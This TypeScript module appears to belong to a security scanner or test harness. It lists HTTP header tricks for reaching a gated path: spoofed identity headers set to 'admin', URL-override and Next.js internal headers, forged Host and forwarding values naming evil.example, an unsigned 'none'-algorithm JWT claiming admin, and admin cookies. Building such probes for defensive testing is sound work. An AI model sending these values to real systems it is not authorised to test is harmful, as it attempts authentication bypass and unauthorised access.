import { one, type HeaderTrick } from './header-trick.ts'
import { nextInternals } from './next-internals.ts'

/** Headers in which a proxy sends the requested address. The first address is open, the second is gated. */
const addressHeaders = [
  ...[
    'x-original-url',
    'x-original-uri',
    'x-rewrite-url',
    'x-forwarded-uri',
    'x-forwarded-url',
    'x-forwarded-path',
  ],
  ...[
    'x-forwarded-prefix',
    'x-envoy-original-path',
    'x-accel-redirect',
    'x-sendfile',
    'x-url',
    'x-path',
    'x-pathname',
  ],
  ...[
    'x-request-uri',
    'request-uri',
    'x-http-path-override',
    'x-proxy-url',
    'path-info',
    'script-name',
    'x-route',
  ],
]

/** Headers in which a proxy sends the user of a request. @see CVE-2025-64484 for the underscores */
export const identityHeaders = [
  ...['x-forwarded-user', 'x-forwarded-email', 'x-forwarded-groups', 'x-forwarded-preferred-username'],
  ...[
    'x-forwarded-access-token',
    'x-auth-request-user',
    'x-auth-request-groups',
    'x-remote-user',
    'remote-user',
  ],
  ...[
    'x-user',
    'x-user-id',
    'x-user-role',
    'x-roles',
    'x-groups',
    'x-auth-user',
    'x-authenticated-user',
    'x-auth',
  ],
  ...[
    'x-ms-client-principal',
    'x-ms-client-principal-name',
    'x-goog-authenticated-user-email',
    'x-amzn-oidc-data',
  ],
  ...[
    'x-amzn-oidc-identity',
    'cf-access-jwt-assertion',
    'x-jwt-assertion',
    'x-webauth-user',
    'x-session',
    'x-oidc-auth',
  ],
  ...['x-ssl-client-s-dn', 'x-client-cert', 'x-cert', 'x-pomerium-jwt-assertion', 'tailscale-user-login'],
]

/** An unsigned JWT with the claims `{"sub":"admin","roles":["ROLE_ADMIN"]}`. */
const unsignedToken = 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInJvbGVzIjpbIlJPTEVfQURNSU4iXX0.'

const surroundings: readonly HeaderTrick[] = [
  ...one(
    'host',
    'evil.example',
    'localhost',
    '127.0.0.1',
    '',
    'evil.example/static?',
    'a b',
    '[::1',
    'x:99999',
  ),
  ...['x-forwarded-host', 'x-forwarded-server', 'x-host', 'x-original-host'].flatMap((name) =>
    one(name, 'evil.example'),
  ),
  ...[
    'x-forwarded-for',
    'x-real-ip',
    'x-client-ip',
    'true-client-ip',
    'cf-connecting-ip',
    'x-cluster-client-ip',
  ].flatMap((name) => one(name, '127.0.0.1')),
  ...one('x-forwarded-proto', 'https', 'http,https', 'javascript'),
  ...one('x-forwarded-port', '443', '0', 'x'),
  ...one('forwarded', 'for=127.0.0.1;host=localhost;proto=https', 'host="evil.example'),
  ...one(
    'user-agent',
    'GoogleHC/1.0',
    'kube-probe/1.30',
    'ELB-HealthChecker/2.0',
    'Prometheus/2.50',
    'Googlebot/2.1',
  ),
  ...one(
    'authorization',
    'Bearer',
    'Bearer x',
    'Bearer null',
    `Bearer ${unsignedToken}`,
    'Basic YWRtaW46YWRtaW4=',
    '\xff',
  ),
  [
    ['authorization', 'Bearer x'],
    ['authorization', `Bearer ${unsignedToken}`],
  ],
  ...one(
    'cookie',
    '',
    '=',
    ';;;',
    '__proto__=x',
    'role=ROLE_ADMIN',
    'user=admin; admin=true',
    `session=${unsignedToken}`,
  ),
  ...['purpose', 'sec-purpose', 'x-moz', 'x-purpose'].flatMap((name) => one(name, 'prefetch')),
  ...one('accept', '*/*', '', 'text/x-component', 'text/css', 'image/png', 'text/html'),
  ...one('sec-fetch-site', 'same-origin', 'none'),
  ...one('origin', 'null', 'http://evil.example'),
  ...one('referer', '/static', 'http://evil.example/admin'),
  ...one('range', 'bytes=0-', 'bytes=9-1'),
  ...one('if-none-match', '*'),
  ...one('if-modified-since', 'Fri, 01 Jan 2100 00:00:00 GMT'),
  ...one('expect', '100-continue'),
  ...one('connection', 'close, cookie', 'close, authorization'),
  ...one('content-type', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'x', '\xff'),
  ...one('max-forwards', '0'),
]

/** Tricks for a request to the gated path. */
export const headerTricks: readonly HeaderTrick[] = [
  ...nextInternals,
  ...surroundings,
  ...identityHeaders.flatMap((name) => [...one(name, 'admin'), ...one(name.replaceAll('-', '_'), 'admin')]),
  ...addressHeaders.flatMap((name) => one(name, '/static')),
  ...['x-http-method-override', 'x-http-method', 'x-method-override'].flatMap((name) =>
    one(name, 'HEAD', 'OPTIONS', 'POST'),
  ),
]

/** Tricks for a request to an open path, with headers that name the gated path. */
export function listAddressTricks(path: string): readonly HeaderTrick[] {
  return [
    ...addressHeaders,
    'x-matched-path',
    'x-invoke-path',
    'x-invoke-output',
    'x-middleware-rewrite',
  ].flatMap((name) => one(name, path))
}
